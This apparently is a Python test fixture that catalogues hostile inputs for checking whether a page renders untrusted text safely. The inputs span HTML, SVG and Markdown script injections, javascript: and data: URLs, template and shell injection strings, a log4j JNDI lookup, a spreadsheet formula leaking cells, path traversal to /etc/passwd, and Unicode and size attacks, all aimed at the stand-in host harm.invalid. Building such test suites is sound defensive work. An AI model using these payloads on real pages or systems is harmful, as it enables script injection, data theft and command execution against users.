"""Texts that a model, a seed, a log or a server might give to do harm to the page that shows them.

Whatever of it comes to life calls `harm()`, asks for something at `ELSEWHERE`, adds an element, or breaks the
layout: a test defines the first, watches for the second, and looks for the others. Each has a name, by which a
failing test tells it.
"""

from __future__ import annotations

import json
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from functools import cached_property
from typing import Any

ELSEWHERE = "https://harm.invalid"
"""Where stolen data would go; a name that no resolver knows."""

HARM = "harm()"
"""What a payload calls when it is executed."""

DEEP_LEVELS = 1_000
WIDE_KEYS = 10_000
LONG, HUGE = 10_000, 1_000_000  # characters


@dataclass(frozen=True)
class Payload:
    """Something hostile.

    Attributes:
        name: Tells it from the others: "svg: onload".
        value: A text, or what a record may hold beside texts: lists and dicts.
    """

    name: str
    value: Any

    @cached_property
    def text(self) -> str:
        """The same as a text, as which it may stand in a log, an error or a name."""
        return self.value if isinstance(self.value, str) else _written(self.value)

    @property
    def is_large(self) -> bool:
        return len(self.text) > LONG

    def __str__(self) -> str:
        return self.name


def _elements() -> dict[str, str]:
    return {
        "image that fails": "<img src=x onerror=harm()>",
        "image that fails, quotes closed first": '"\'><img src=x onerror="harm()">',
        "image from elsewhere": f"<img src='{ELSEWHERE}/img.png' alt=''>",
        "image with a source set": f"<img srcset='{ELSEWHERE}/small.png 1x, {ELSEWHERE}/large.png 2x'>",
        "image without a closing bracket": "<img src=x onerror=harm() alt=",
        "upper and lower case": "<ImG sRc=x OnErRoR=harm()>",
        "slashes for spaces": "<img/src=x/onerror=harm()>",
        "line breaks for spaces": "<img\nsrc=x\nonerror\n=\nharm()>",
        "form feed for spaces": "<img\fsrc=x\fonerror=harm()>",
        "entity in a handler": "<img src=x onerror='&#104;arm&lpar;&rpar;'>",
        "video whose source fails": "<video><source onerror=harm()></video>",
        "audio from elsewhere": f"<audio autoplay src={ELSEWHERE}/a.mp3 onerror=harm()></audio>",
        "poster of a video": f"<video poster={ELSEWHERE}/p.png></video>",
        "input that takes the focus": "<input autofocus onfocus=harm()>",
        "field that takes the focus": "<div contenteditable autofocus onfocus=harm() tabindex=0>type</div>",
        "details that open": "<details open ontoggle=harm()><summary>more</summary></details>",
        "pointer over a paragraph": "<p onmouseover=harm() onpointerenter=harm()>over here</p>",
        "handler of an animation": "<b style='animation:x' onanimationstart=harm()>now</b>",
        "marquee": "<marquee onstart=harm() loop=1>news</marquee>",
        "dialog that is open": "<dialog open oncancel=harm()>Sign in again</dialog>",
        "popover": "<button popovertarget=p>more</button><div id=p popover onbeforetoggle=harm()>x</div>",
        "table broken out of": "</td></tr></tbody></table></div></div><h1>Outside</h1><script>harm()</script>",
        "attribute broken out of": 'x" onmouseover="harm()" data-x="',
        "attribute broken out of, single quotes": "x' autofocus onfocus='harm()' tabindex='0",
        "attribute broken out of, backtick": "x` onmouseover=`harm()",
        "comment left open": "<!-- <img src=x onerror=harm()>",
        "comment that ends oddly": "<!--> <img src=x onerror=harm()> -->",
        "comment for one browser": "<!--[if gte IE 4]><script>harm()</script><![endif]-->",
        "text area left open": "</textarea><img src=x onerror=harm()><textarea>",
        "title left open": "</title><img src=x onerror=harm()><title>",
        "without script": "<noscript><p title='</noscript><img src=x onerror=harm()>'></noscript>",
        "template with a shadow": "<div><template shadowrootmode=open><img src=x onerror=harm()></template></div>",
        "own element": "<x-harm onclick=harm() is=dd-view></x-harm>",
        "frame set": "<frameset onload=harm()><frame src=javascript:harm()></frameset>",
        "plain text to the end": "<plaintext>nothing after this",
        "xmp to the end": "<xmp>nothing after this",
        "character data": "<![CDATA[<img src=x onerror=harm()>]]>",
        "processing instruction": "<?xml-stylesheet href='javascript:harm()'?>",
        "already escaped": "&lt;img src=x onerror=harm()&gt;",
        "escaped twice": "&amp;lt;script&amp;gt;harm()&amp;lt;/script&amp;gt;",
        "many thousand brackets": "<" * 4_000 + "img src=x onerror=harm()" + ">" * 4_000,
        "nested a thousand deep": "<b>" * 1_000 + "deep",
    }


def _documents() -> dict[str, str]:
    return {
        "script": "<script>harm()</script>",
        "script from elsewhere": f"<script src={ELSEWHERE}/s.js></script>",
        "script as a module": "<script type=module>import('data:text/javascript,harm()')</script>",
        "script after the end of ours": "</script><script>harm()</script>",
        "script with a space in its end": "<script>harm()</script foo>",
        "style that hides the page": "<style>body { display: none !important }</style>",
        "style after the end of ours": "</style><style>* { visibility: hidden !important }</style>",
        "base": f"<base href='{ELSEWHERE}/'>",
        "meta that leads away": f"<meta http-equiv=refresh content='0; url={ELSEWHERE}/'>",
        "meta with another policy": "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\">",
        "style sheet from elsewhere": f"<link rel=stylesheet href={ELSEWHERE}/s.css>",
        "link fetched beforehand": f"<link rel=prefetch href={ELSEWHERE}/next><link rel=preconnect href={ELSEWHERE}>",
        "module fetched beforehand": f"<link rel=modulepreload href={ELSEWHERE}/m.js>",
        "frame": f"<iframe src={ELSEWHERE}/frame></iframe>",
        "frame with a document": "<iframe srcdoc='<script>parent.harm()</script>'></iframe>",
        "frame with a script": "<iframe src=javascript:parent.harm()></iframe>",
        "object": f"<object data={ELSEWHERE}/o.swf type=application/x-shockwave-flash></object>",
        "object with a document": "<object data='data:text/html,<script>parent.harm()</script>'></object>",
        "embedded": f"<embed src={ELSEWHERE}/e.svg>",
        "form": f"<form action={ELSEWHERE}/login><input name=key type=password><button>Sign in</button></form>",
        "button of another form": f"<button form=f formaction={ELSEWHERE}/x>Go on</button>",
        "import map": '<script type=importmap>{"imports": {"preact": "data:text/javascript,harm()"}}</script>',
        "speculation": f'<script type=speculationrules>{{"prefetch": [{{"urls": ["{ELSEWHERE}/x"]}}]}}</script>',
        "whole document": f"<!doctype html><html><head><base href={ELSEWHERE}></head><body onload=harm()>x",
        "portal": f"<portal src={ELSEWHERE}></portal><fencedframe></fencedframe>",
    }


def _drawings() -> dict[str, str]:
    return {
        "svg: onload": "<svg onload=harm()>",
        "svg: script": "<svg><script>harm()</script></svg>",
        "svg: script in an attribute": "<svg><script href='data:text/javascript,harm()' /></svg>",
        "svg: animation that begins": "<svg><animate onbegin=harm() attributeName=x dur=1s></svg>",
        "svg: animated link": "<svg><a><set attributeName=href to=javascript:harm() /><text y=20>see</text></a></svg>",
        "svg: foreign object": "<svg><foreignObject><img src=x onerror=harm()></foreignObject></svg>",
        "svg: use": f"<svg><use href='{ELSEWHERE}/u.svg#x'></use></svg>",
        "svg: picture": f"<svg><image href={ELSEWHERE}/i.png></image></svg>",
        "svg: filter from elsewhere": f"<svg><rect filter='url({ELSEWHERE}/f.svg#f)'></rect></svg>",
        "svg: style": "<svg><style>body { display: none }</style></svg>",
        "svg: the title changes the parser": "<svg><title><style><img src=x onerror=harm()></style></title></svg>",
        "svg: as a document": "<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='harm()'/>",
        "mathml: link": "<math><mtext href=javascript:harm()>x</mtext></math>",
        "mathml: action": "<math><maction actiontype='statusline#x' xlink:href=javascript:harm()>x</maction></math>",
        "mathml: changes the parser": "<math><mi><mglyph><style><img src=x onerror=harm()></style></mglyph></math>",
        "mathml: annotation": "<math><annotation-xml encoding=text/html><img src=x onerror=harm()></math>",
    }


def _markdown() -> dict[str, str]:
    return {
        "link to a script": "[click me](javascript:harm())",
        "link to a script, mixed case": "[click me](JaVaScRiPt:harm())",
        "link to a script, a tab in it": "[click me](java\tscript:harm())",
        "link to a script, as entities": "[click me](&#106;avascript&colon;harm())",
        "link to a script, with percent signs": "[click me](javascript%3Aharm())",
        "link in angle brackets": "[click me](<javascript:harm()>)",
        "link with a title": "[click me](https://example.org \"x' onmouseover='harm()\")",
        "link without a scheme": "[click me](//harm.invalid/x)",
        "image": f"![pixel]({ELSEWHERE}/pixel.png)",
        "image with a script": "![pixel](javascript:harm())",
        "image, its text broken out of": f'![x" onerror="harm()]({ELSEWHERE}/x.png)',
        "image in a link": f"[![x]({ELSEWHERE}/x.png)](javascript:harm())",
        "autolink": "<javascript:harm()>",
        "autolink to data": "<data:text/html;base64,PHNjcmlwdD5oYXJtKCk8L3NjcmlwdD4=>",
        "autolink to elsewhere": f"<{ELSEWHERE}/?q=secret>",
        "bare address": f"{ELSEWHERE}/?q=secret",
        "HTML in Markdown": "# Title\n\n<div onclick=harm()>**bold**</div>\n\n<script>harm()</script>",
        "HTML between words": "some *text <img src=x onerror=harm()> more*",
        "reference link": "[click me][1]\n\n[1]: javascript:harm() 'title'",
        "reference to an image": f"![x][p]\n\n[p]: {ELSEWHERE}/p.png",
        "footnote": "see[^1]\n\n[^1]: <img src=x onerror=harm()>",
        "links in links": "[a [b](javascript:harm()) c](javascript:harm())",
        "code fence that is broken out of": "```js\nharm()\n```\n<script>harm()</script>\n```",
        "code fence whose language breaks out": '```"><img/src=x/onerror=harm()>\ncode\n```',
        "heading whose name clobbers": "# __proto__\n\n## constructor\n\n### body",
        "table": "| a | b |\n| --- | --- |\n| <img src=x onerror=harm()> | [x](javascript:harm()) |",
        "task list": "- [ ] <input autofocus onfocus=harm()>\n- [x] done",
        "quotes, a thousand deep": ">" * 1_000 + " deep",
        "lists, five hundred deep": "\n".join("  " * level + "- x" for level in range(500)),
        "emphasis that never ends": "*a **b " * 1_500,
        "brackets that never close": "[" * 5_000,
        "links that never close": "[a](" * 2_500,
        "backticks of all lengths": " ".join("`" * length for length in range(1, 120)),
        "front matter": "---\ntitle: <script>harm()</script>\n---\n# x",
        "definition of an attribute": "# x {onclick=harm() style=position:fixed}",
    }


def _addresses() -> dict[str, str]:
    return {
        "javascript": "javascript:harm()",
        "javascript, mixed case": "JAVAscript:harm()",
        "javascript, spaces before": "  \t javascript:harm()",
        "javascript, control characters before": "\x01\x02javascript:harm()",
        "javascript, line breaks within": "java\nscr\ript:harm()",
        "javascript, a comment with a line break": "javascript://example.org/%0Aharm()",
        "javascript, full-width letters": "ｊａｖａｓｃｒｉｐｔ:harm()",
        "javascript, soft hyphen": "java\u00adscript:harm()",
        "data: page": "data:text/html,<script>harm()</script>",
        "data: page in base64": "data:text/html;base64,PHNjcmlwdD5oYXJtKCk8L3NjcmlwdD4=",
        "data: drawing": "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='harm()'/>",
        "data: drawing in base64": "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Imhhcm0oKSIvPg==",
        "data: picture with an attribute": 'data:image/png;base64,iVBORw0KGgo=" onload="harm()',
        "data: script": "data:text/javascript,harm()",
        "vbscript": "vbscript:MsgBox(1)",
        "file": "file:///etc/passwd",
        "blob": "blob:https://harm.invalid/5a5f0f5e-0000-4000-8000-000000000000",
        "file system": "filesystem:https://harm.invalid/temporary/x.html",
        "view source": "view-source:https://harm.invalid/",
        "protocol-relative": "//harm.invalid/x.png",
        "backslashes": "\\\\harm.invalid\\share\\x.png",
        "with a password": "https://user:password@harm.invalid/",
        "with a line break": f"{ELSEWHERE}/\r\nX-Injected: yes",
        "climbing out": "../../../../../../etc/passwd",
        "climbing out, encoded": "..%2f..%2f..%2fetc%2fpasswd",
        "picture far away": f"{ELSEWHERE}/pixel.png",
        "letters of another alphabet": "https://ехаmрle.invalid/",
        "command of JupyterLab": "<button data-commandlinker-command='terminal:create-new'>open</button>",
        "command of VS Code": "command:workbench.action.terminal.new",
    }


def _templates() -> dict[str, str]:
    return {
        "Jinja": "{{ 7 * 7 }}{% for x in range(3) %}{{ x }}{% endfor %}",
        "Jinja, classes": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "Jinja, a file of ours": "{% include 'run.css' %}{% raw %}",
        "Jinja, comment left open": "{# nothing after this",
        "Mustache": "{{{html}}} {{&html}} {{#each}}x{{/each}}",
        "Angular": "{{constructor.constructor('harm()')()}}",
        "Angular, attribute": "<div ng-app ng-init=\"$eval.constructor('harm()')()\"></div>",
        "Vue": "{{_c.constructor('harm()')()}} <p v-html=\"'<img src=x onerror=harm()>'\"></p>",
        "Vue, event": "<b @click='harm()' v-on:mouseover='harm()' :is=\"'script'\">x</b>",
        "Lit": "<dd-x .innerHTML=${harm()} @click=${harm()}></dd-x>",
        "Alpine": "<div x-data x-init='harm()'></div>",
        "htmx": f"<div hx-get={ELSEWHERE}/x hx-trigger=load></div>",
        "template literal": "`${harm()}`",
        "shell": "$(touch harmed); `touch harmed`; ${IFS}x",
        "percent signs": "%s %d %(x)s %n %%",
        "format string": "{0.__class__} {self} {} {x!r}",
        "ERB": "<%= `touch harmed` %><? system('x') ?>",
        "log4j": "${jndi:ldap://harm.invalid/a}",
        "formula of a spreadsheet": '=HYPERLINK("https://harm.invalid/?"&A1,"open")',
        "IPython": "%system touch harmed\n!touch harmed",
    }


def _formulas() -> dict[str, str]:
    return {
        "link": "$$\\href{javascript:harm()}{x}$$",
        "HTML": "\\(\\htmlClass{x}{y} \\style{position:fixed;inset:0;background:red}{x}\\)",
        "require": "$\\require{html}\\class{harm}{x}$",
        "unicode": "$$\\unicode[harm]{x3c}\\unicode{x73}$$",
        "definition without end": "$\\def\\a{\\a\\a}\\a$",
        "picture": f"$$\\includegraphics{{{ELSEWHERE}/x.png}}$$",
        "file": "\\[\\input{/etc/passwd}\\]",
        "environment": "\\begin{equation}\\label{x}\\tag{harm}\\end{equation}",
        "mathjax in HTML": "<script type='math/tex'>\\href{javascript:harm()}{x}</script>",
        "prices": "it costs $5 or $10, and \\$20",
    }


def _characters() -> dict[str, str]:
    return {
        "override to the left": "invoice\u202efdp.exe",
        "overrides left open": "\u202e\u202d\u202b\u202a" * 20 + "abc",
        "isolates left open": "\u2066\u2067\u2068" * 20 + "abc",
        "marks of direction": "a\u200eb\u200fc\u061cd",
        "Arabic and Hebrew with digits": "שלום 123 مرحبا 456 <b>",
        "zero width": "pass\u200bword\u200c\u200d\ufeff\u2060",
        "nothing but zero width": "\u200b\u200c\u200d\u2060",
        "tags that nobody sees": "hello" + "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all"),
        "combining flood": "Z" + "\u0300\u0489\u036f" * 300 + "algo",
        "combining flood without a base": "\u0338" * 2_000,
        "enclosing marks": "e\u20dd\u20e3\u20e4" * 50,
        "wide and tall letters": "﷽𒐫𒈙⸻" * 60,
        "emoji sequences": "👩\u200d👩\u200d👧\u200d👦🏳️\u200d🌈" * 50,
        "variation selectors": "a" + "\ufe0f\ufe0e" * 200,
        "private use": "\ue000\uf8ff\U000f0000",
        "no characters": "\ufffe\uffff\ufdd0",
        "halves of pairs": "a\ud83db\ude00c",
        "null": "before\x00after",
        "null in a tag": "<scr\x00ipt>harm()</scr\x00ipt>",
        "bell and backspace": "safe\x07\x08\x08\x08\x08harm",
        "carriage return over a line": "all is well\rharm done  ",
        "controls, all of them": "".join(map(chr, range(32))) + "\x7f",
        "second set of controls": "".join(map(chr, range(0x80, 0xA0))),
        "separators of lines": "a\u2028b\u2029c\x85d\x0be\x0cf",
        "ANSI: colours": "\x1b[31mred\x1b[0m and \x1b[5mblinking",
        "ANSI: clears the screen": "\x1b[2J\x1b[Hclean",
        "ANSI: title of the window": "\x1b]0;harm\x07",
        "ANSI: link": "\x1b]8;;https://harm.invalid\x1b\\click me\x1b]8;;\x1b\\",
        "ANSI: clipboard": "\x1b]52;c;aGFybQ==\x07",
        "ANSI: second set": "\x9b31mred\x9b0m",
        "letters that look alike": "аdmіn ѕеrvісе",
        "quotes of all kinds": "\"'`´‘’“”«»‹›",
        "spaces of all kinds": "a\u00a0b\u2003c\u3000d\u1680e\u180ef",
        "nothing but spaces": "   \t\n   ",
        "empty": "",
        "many lines": "\n" * 3_000 + "end",
        "tabs": "\t" * 500 + "far",
        "full-width HTML": "＜script＞harm()＜/script＞",
        "seven bits": "+ADw-script+AD4-harm()+ADw-/script+AD4-",
        "overlong": "\xc0\xbcscript\xc0\xbeharm()",
    }


def _styles() -> dict[str, str]:
    return {
        "address": f"background: url({ELSEWHERE}/bg.png)",
        "width broken out of": f"50%; background-image: url({ELSEWHERE}/w.png); position: fixed; inset: 0",
        "attribute": 'x" style="position:fixed;inset:0;z-index:9999;background:red',
        "expression": "width: expression(harm())",
        "binding": f"-moz-binding: url({ELSEWHERE}/b.xml#x); behavior: url(x.htc)",
        "import": f"@import url({ELSEWHERE}/i.css);",
        "end of a rule": "} * { display: none !important } .x {",
        "end of a comment": "*/ } body { display: none } /*",
        "font": f"@font-face {{ font-family: x; src: url({ELSEWHERE}/f.woff) }}",
        "selector that reads": f"input[value^=a] {{ background: url({ELSEWHERE}/a) }}",
        "variable": "--dd-paper: red; --jp-layout-color0: red",
        "image set": f"image-set('{ELSEWHERE}/x.png' 1x)",
        "names of our classes": "dd-view dd-bad ddj-run ddj-unseen",
    }


def _breakers() -> dict[str, str]:
    return {
        "end of a script": '{"a": "</script><script>harm()</script>"}',
        "start of a comment in a script": '{"a": "<!--<script>"}',
        "line separators": '{"a": "\u2028\u2029"}',
        "end of a string": '"}];harm();//',
        "end of a string, backslash": '\\"}];harm();//',
        "backslash at the end": "C:\\",
        "unfinished escape": "\\u00",
        "not a number": '{"a": NaN, "b": Infinity, "c": -0}',
        "number too large": '{"a": 1e999, "b": 123456789012345678901234567890}',
        "keys twice": '{"a": 1, "a": 2, "": 3}',
        "prototype": '{"__proto__": {"harmed": true}, "constructor": {"prototype": {"harmed": true}}}',
        "looks like an answer": '{"request": "1", "reply": {"rows": []}, "tell": "rows"}',
        "looks like a widget": '{"application/vnd.jupyter.widget-view+json": {"model_id": "x"}}',
        "looks like a picture": '{"text/html": "<script>harm()</script>"}',
    }


def _names() -> dict[str, str]:
    """Names that a document, an object or a module takes for its own."""
    return {
        name: name
        for name in (
            "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "__defineGetter__", "valueOf",
            "innerHTML", "document", "location", "cookie", "body", "head", "forms", "currentScript", "attributes",
            "parentNode", "dangerouslySetInnerHTML", "children", "key", "ref", "length", "then", "index", "undefined",
            "null", "NaN", "true", "__class__", "__dict__", "self",
        )
    }  # fmt: skip


def _large() -> dict[str, str]:
    return {
        "ten thousand characters, one word": "W" * LONG,
        "ten thousand characters, words": ("lorem ipsum dolor " * LONG)[:LONG],
        "a million characters, one word": "W" * HUGE,
        "a million characters, words": ("lorem ipsum dolor " * HUGE)[:HUGE],
        "a million characters, lines": "line\n" * (HUGE // 5),
        "a million characters, tags": "<b>" * (HUGE // 3),
        "a million characters, entities": "&amp;" * (HUGE // 5),
        "a million characters, Markdown": "**a** [b](c) " * (HUGE // 13),
        "an address without end": f"{ELSEWHERE}/" + "a" * LONG,
        "code without end": "def f(): return " + "(" * LONG,
    }


def _objects() -> dict[str, Any]:
    nested: Any = "bottom"
    listed: Any = "bottom"
    for _ in range(DEEP_LEVELS):
        nested, listed = {"a": nested}, [listed]
    return {
        "thousand levels of objects": nested,
        "thousand levels of lists": listed,
        "ten thousand keys": {f"key {number}": number for number in range(WIDE_KEYS)},
        "ten thousand items": list(range(WIDE_KEYS)),
        "keys of a prototype": {"__proto__": {"harmed": True}, "constructor": {"prototype": {"harmed": True}}},
        "keys that are HTML": {"<img src=x onerror=harm()>": "<svg onload=harm()>", "": "empty", " ": "space"},
        "keys of a view": {"tag": "script", "children": [{"tag": "img", "href": "javascript:harm()"}], "text": "x"},
        "key of a component": {"type": "script", "props": {"dangerouslySetInnerHTML": {"__html": "<script>harm()"}}},
        "key of a long name": {"k" * LONG: 1},
        "value that is a script": {"url": "javascript:harm()", "html": "<script>harm()", "img": "//harm.invalid"},
        "scores of a judge": {"<b onclick=harm()>": {"score": "<img src=x onerror=harm()>", "reasoning": "<script>"}},
        "messages of a trace": [{"role": "<img src=x onerror=harm()>", "content": "<script>harm()</script>"}],
        "a list of mixed things": [None, True, 1, 1e308, "<img src=x onerror=harm()>", [], {}, [[]]],
    }  # fmt: skip


GROUPS: Mapping[str, Mapping[str, Any]] = {
    "elements": _elements(),
    "documents": _documents(),
    "drawings": _drawings(),
    "Markdown": _markdown(),
    "addresses": _addresses(),
    "templates": _templates(),
    "formulas": _formulas(),
    "characters": _characters(),
    "styles": _styles(),
    "JSON": _breakers(),
    "names": _names(),
    "large": _large(),
    "objects": _objects(),
}


def _all() -> Iterator[Payload]:
    for group, payloads in GROUPS.items():
        for name, value in payloads.items():
            yield Payload(f"{group}: {name}", value)


def _written(value: Any) -> str:
    """The value as JSON; Python's own writer gives up on a thousand levels."""
    begun, ended = "", ""
    while isinstance(value, dict | list) and len(value) == 1:
        if isinstance(value, list):
            begun, ended, value = f"{begun}[", f"]{ended}", value[0]
        else:
            [(key, value)] = value.items()
            begun, ended = f"{begun}{{{json.dumps(key)}: ", f"}}{ended}"
    return begun + json.dumps(value, ensure_ascii=False) + ended


PAYLOADS: tuple[Payload, ...] = tuple(_all())
